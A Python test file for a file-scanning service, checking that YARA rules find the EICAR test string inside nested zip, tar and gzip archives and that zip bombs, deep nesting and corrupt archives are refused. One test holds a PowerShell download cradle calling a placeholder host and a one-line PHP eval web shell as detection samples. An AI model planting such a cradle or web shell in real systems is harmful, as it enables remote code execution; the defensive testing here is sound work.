"""Specification: YARA sees inside archives, within limits that refuse rather than pass.

Every input is a real archive written by the standard library (zip, tar, gzip, tar.gz), scanned
from disk with the shipped rules. Nothing touches AWS.
"""

from __future__ import annotations

import gzip
import io
import tarfile
import zipfile
from pathlib import Path

import pytest

from filejobs.processors.scan.archives import ArchiveLimits, ArchiveWalker, kind_of
from filejobs.processors.scan.engines import SignatureError, Verdict, YaraScanner

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
MiB = 1024 * 1024


def zipped(name: str, data: bytes, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=method) as archive:
        archive.writestr(name, data)
    return buffer.getvalue()


def tarred(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def write(tmp_path: Path, name: str, data: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


@pytest.fixture(scope="module")
def yara_scanner() -> YaraScanner:
    return YaraScanner.with_rules_in()


PACKED_EICAR = [
    ("eicar.com", EICAR),
    ("eicar.zip", zipped("eicar.com", EICAR)),
    ("twice.zip", zipped("eicar.zip", zipped("eicar.com", EICAR))),
    ("eicar.tar", tarred("eicar.com", EICAR)),
    ("eicar.tar.gz", gzip.compress(tarred("eicar.com", EICAR))),
    ("eicar.com.gz", gzip.compress(EICAR)),
    ("renamed.txt", gzip.compress(zipped("a/b/eicar.com", EICAR))),
]


# Named by file, not by bytes: a gzip holds the second it was written in, and every xdist
# worker must collect the same test ids.
@pytest.mark.parametrize(("name", "data"), PACKED_EICAR, ids=[name for name, _ in PACKED_EICAR])
def test_eicar_is_found_plain_and_inside_every_supported_archive(
    yara_scanner: YaraScanner, tmp_path: Path, name: str, data: bytes
) -> None:
    # Given EICAR as is, or packed (deflated, so its bytes are not visible from outside)
    path = write(tmp_path, name, data)
    # When YARA scans the file
    result = yara_scanner.scan(path)
    # Then it names the EICAR rule, and it looked at every layer
    assert result.verdict is Verdict.INFECTED
    assert result.signatures == ["EICAR_Test_File"]
    assert result.scanned_files == 1 + name.count(".zip") + name.count("twice") + (
        name.count(".tar") + name.count(".gz") + name.startswith("renamed") * 2
    )
    assert not result.errors and not result.refusals


def test_clean_files_and_archives_of_them_are_clean(
    yara_scanner: YaraScanner, tmp_path: Path
) -> None:
    text = b"Quarterly report\nrevenue: up\nIEX is a stock exchange, eval() is a function.\n"
    for name, data in [
        ("report.txt", text),
        ("empty.bin", b""),
        ("report.zip", zipped("report.txt", text)),
        ("empty.zip", zipped("empty.bin", b"")),
    ]:
        result = yara_scanner.scan(write(tmp_path, name, data))
        assert result.verdict is Verdict.CLEAN, (name, result)


def test_the_generic_rules_catch_a_download_cradle_and_a_php_web_shell(
    yara_scanner: YaraScanner, tmp_path: Path
) -> None:
    cradle = b"powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\""
    shell = b"<?php @eval($_POST['cmd']); ?>"
    assert yara_scanner.scan(write(tmp_path, "a.ps1", cradle)).signatures == [
        "Generic_PowerShell_Download_Cradle"
    ]
    assert yara_scanner.scan(write(tmp_path, "b.php", shell)).signatures == [
        "Generic_PHP_Webshell_Eval_Request"
    ]


def test_a_zip_bomb_is_refused_after_a_bounded_read_never_unpacked_fully(tmp_path: Path) -> None:
    # Given a 200 MiB member of zeros that deflates to about 200 KiB (ratio about 1000)
    bomb = write(tmp_path, "bomb.zip", zipped("zeros.bin", bytes(200 * MiB)))
    assert bomb.stat().st_size < MiB
    # When its members are walked (with the header's sizes hidden, as a crafted bomb would)
    walker = ArchiveWalker(ArchiveLimits(), tmp_path / "scratch")
    (tmp_path / "scratch").mkdir()
    names = [member.name for member in walker.walk(bomb, "bomb.zip")]
    # Then the header alone gets it refused: nothing of it is unpacked
    assert names == ["bomb.zip"]
    assert walker.unpacked_bytes == 0
    assert walker.refusals == [
        f"bomb.zip!zeros.bin: expands to more than 100 times its {_compressed(bomb)} compressed "
        "bytes (a likely zip bomb); refused, not unpacked"
    ]


def test_a_bomb_that_lies_about_its_size_stops_within_the_floor_plus_one_chunk(
    tmp_path: Path,
) -> None:
    # Given a gzip (which declares no size up front) of 200 MiB of zeros
    bomb = write(tmp_path, "zeros.gz", gzip.compress(bytes(200 * MiB)))
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    walker = ArchiveWalker(ArchiveLimits(), scratch)
    # When it is walked
    members = list(walker.walk(bomb, "zeros.gz"))
    # Then it is refused once past 100 times its compressed size (plus one chunk read), far
    # from its 200 MiB, and the partial member is gone from the scratch directory
    assert [m.name for m in members] == ["zeros.gz"]
    assert walker.largest_member <= 100 * bomb.stat().st_size + MiB
    assert walker.largest_member < 25 * MiB
    assert "a likely zip bomb" in walker.refusals[0]
    assert list(scratch.iterdir()) == []


def test_a_refused_member_makes_the_scan_an_error_never_clean(tmp_path: Path) -> None:
    scanner = YaraScanner.with_rules_in()
    result = scanner.scan(write(tmp_path, "bomb.zip", zipped("zeros.bin", bytes(50 * MiB))))
    assert result.verdict is Verdict.ERROR
    assert result.refusals and "zip bomb" in result.refusals[0]


def test_archives_nested_deeper_than_three_are_refused(tmp_path: Path) -> None:
    # Given a clean text in 4 nested zips
    data = b"just text"
    for level in range(4):
        data = zipped(f"level{level}.zip" if level else "note.txt", data)
    # When scanned
    result = YaraScanner.with_rules_in().scan(write(tmp_path, "deep.zip", data))
    # Then the innermost archive is refused by name, so the verdict is ERROR
    assert result.verdict is Verdict.ERROR
    assert result.refusals == [
        "deep.zip!level3.zip!level2.zip!level1.zip: a zip archive nested more than 3 levels "
        "deep; refused, not unpacked"
    ]


def test_three_levels_deep_is_still_scanned(yara_scanner: YaraScanner, tmp_path: Path) -> None:
    data = EICAR
    for level in range(3):
        data = zipped(f"level{level}.zip" if level else "eicar.com", data)
    assert yara_scanner.scan(write(tmp_path, "deep.zip", data)).verdict is Verdict.INFECTED


def test_member_count_and_total_size_limits_refuse_the_rest(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for n in range(20):
            archive.writestr(f"part{n:02d}.txt", bytes([65 + n]) * 1000)
    path = write(tmp_path, "many.zip", buffer.getvalue())

    few = YaraScanner.with_rules_in(limits=ArchiveLimits(max_members=5)).scan(path)
    assert few.verdict is Verdict.ERROR
    assert few.refusals == [
        "many.zip!part05.txt: more than 5 archive members in all; refused, the rest is not unpacked"
    ]
    assert few.scanned_files == 6  # the zip and its first five members

    small = YaraScanner.with_rules_in(limits=ArchiveLimits(max_total_bytes=2500)).scan(path)
    assert small.verdict is Verdict.ERROR
    assert "past the 2500 bytes an upload may unpack to" in small.refusals[0]


def test_a_corrupt_zip_is_scanned_as_bytes(yara_scanner: YaraScanner, tmp_path: Path) -> None:
    # Given a zip cut short (its central directory is gone) holding EICAR stored, not deflated
    whole = zipped("eicar.com", EICAR, zipfile.ZIP_STORED)
    cut = write(tmp_path, "cut.zip", whole[: len(whole) // 2 + 40])
    garbage = write(tmp_path, "junk.zip", b"PK\x03\x04" + bytes(range(256)) * 4)
    # Then it is no archive, yet its bytes are scanned: EICAR shows; the junk is merely clean
    assert kind_of(cut) is None
    assert yara_scanner.scan(cut).signatures == ["EICAR_Test_File"]
    assert yara_scanner.scan(garbage).verdict is Verdict.CLEAN


def test_a_member_with_a_bad_crc_is_still_scanned(
    yara_scanner: YaraScanner, tmp_path: Path
) -> None:
    # Given EICAR deflated in a zip whose recorded CRC-32 is wrong (tolerant unzippers extract it)
    data = bytearray(zipped("eicar.com", EICAR))
    crc = zipfile.ZipFile(io.BytesIO(bytes(data))).infolist()[0].CRC.to_bytes(4, "little")
    assert data.count(crc) == 2  # the local header and the central directory
    path = write(tmp_path, "badcrc.zip", bytes(data.replace(crc, b"\0\0\0\0")))
    # Then the member is scanned all the same
    assert yara_scanner.scan(path).signatures == ["EICAR_Test_File"]


def test_a_member_whose_stream_breaks_is_scanned_as_far_as_it_reads_and_refused_past(
    yara_scanner: YaraScanner, tmp_path: Path
) -> None:
    # Given a long text with EICAR near its start, deflated, the stream damaged far after it
    text = EICAR + b"".join(b"line %d of a plain report\n" % n for n in range(20_000))
    data = bytearray(zipped("report.txt", text))
    start = data.index(b"report.txt") + len("report.txt")
    data[start + 30_000 : start + 30_030] = b"\xff" * 30
    path = write(tmp_path, "damaged.zip", bytes(data))
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    walker = ArchiveWalker(ArchiveLimits(), scratch)
    # When walked, nothing crashes: what was read is still a member, the rest is refused
    names = [m.name for m in walker.walk(path, "damaged.zip")]
    assert names == ["damaged.zip", "damaged.zip!report.txt"]
    assert len(walker.refusals) == 1
    assert walker.refusals[0].startswith("damaged.zip!report.txt: unreadable after ")
    assert walker.refusals[0].endswith("the rest is not scanned")
    # And the part read before the break is scanned: a detection in it still counts
    assert yara_scanner.scan(path).signatures == ["EICAR_Test_File"]
    # while the same break in a harmless report is never CLEAN: nobody saw the rest
    harmless = bytearray(zipped("report.txt", text.replace(EICAR, b"x" * len(EICAR))))
    harmless[start + 30_000 : start + 30_030] = b"\xff" * 30
    assert yara_scanner.scan(write(tmp_path, "h.zip", bytes(harmless))).verdict is Verdict.ERROR


def test_an_archive_no_engine_here_opens_is_refused_never_clean(
    yara_scanner: YaraScanner, tmp_path: Path
) -> None:
    # Given a zip whose member is compressed with a method Python's zipfile lacks (PPMd, 98)
    data = bytearray(zipped("notes.txt", b"quarterly notes\n" * 100, zipfile.ZIP_STORED))
    for header in (b"PK\x03\x04", b"PK\x01\x02"):
        at = data.index(header) + (8 if header == b"PK\x03\x04" else 10)
        data[at : at + 2] = (98).to_bytes(2, "little")
    path = write(tmp_path, "ppmd.zip", bytes(data))
    # Then its member is not seen, and the scan says so instead of passing it
    result = yara_scanner.scan(path)
    assert result.verdict is Verdict.ERROR and not result.infected
    assert result.refusals == [
        "ppmd.zip: a zip archive that cannot be opened (That compression method is not "
        "supported); what it holds is not scanned"
    ]


def test_rules_that_do_not_compile_are_refused_with_the_reason(tmp_path: Path) -> None:
    broken = write(tmp_path, "broken.yar", b"rule broken { condition: nonsense_identifier }")
    with pytest.raises(SignatureError, match="do not compile"):
        YaraScanner.with_rules_in(tmp_path)
    assert broken.exists()


def _compressed(path: Path) -> int:
    with zipfile.ZipFile(path) as archive:
        return archive.infolist()[0].compress_size
